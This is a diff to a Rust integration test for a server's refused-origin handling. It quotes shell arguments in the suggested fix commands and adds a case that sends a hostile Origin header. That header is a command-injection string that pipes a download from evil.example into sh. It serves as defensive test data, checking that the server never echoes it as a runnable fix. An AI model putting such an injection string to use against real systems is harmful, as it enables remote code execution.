@@ -383,7 +383,7 @@ fn a_refused_origin_is_logged_with_the_fix_and_counted_by_app() {
     assert_eq!(r.json()["error"]["code"], "origin_not_allowed");
     let message = r.json()["error"]["message"].as_str().unwrap().to_string();
     assert!(
-        message.contains(&format!("workspace set {app} --allowed-origin {evil}")),
+        message.contains(&format!("workspace set '{app}' --allowed-origin '{evil}'")),
         "{message}"
     );
     assert!(
@@ -456,19 +456,39 @@ fn a_refused_origin_is_logged_with_the_fix_and_counted_by_app() {
             .collect();
         (lines.len() >= 3).then_some(lines)
     });
-    let fix = format!("--allowed-origin {evil}");
+    let fix = format!("--allowed-origin '{evil}'");
     let with_app: Vec<_> = lines.iter().filter(|l| l.contains(&app)).collect();
     assert_eq!(with_app.len(), 2, "{lines:#?}");
     for line in &with_app {
         assert!(line.contains("INFO"), "{line}");
         assert!(line.contains(evil), "{line}");
-        assert!(line.contains(&format!("workspace set {app}")), "{line}");
+        assert!(line.contains(&format!("workspace set '{app}'")), "{line}");
         assert!(line.contains(&fix), "{line}");
+        // Quoted: a shell would expand an unquoted `*`.
         assert!(
-            line.contains("--allowed-origin http://localhost:*"),
+            line.contains("--allowed-origin 'http://localhost:*'"),
             "{line}"
         );
     }
+
+    // An Origin that no browser sends (here a shell command) is never offered as a command.
+    let hostile = "https://shop.example.net;curl -s https://evil.example/x|sh;#";
+    let r = server.raw(&identify_request(
+        &signed(&app, &key, "u1"),
+        &[("Origin", hostile)],
+    ));
+    assert_eq!(r.status, 403);
+    let message = r.json()["error"]["message"].as_str().unwrap().to_string();
+    assert!(!message.contains("curl"), "{message}");
+    let line = eventually("the hostile origin's log line", || {
+        server
+            .output()
+            .into_iter()
+            .find(|l| l.stderr && l.text.contains("identify refused") && l.text.contains("curl"))
+            .map(|l| l.text)
+    });
+    assert!(!line.contains("workspace set"), "{line}");
+    assert!(line.contains("not a browser's origin"), "{line}");
 }
 
 #[test]
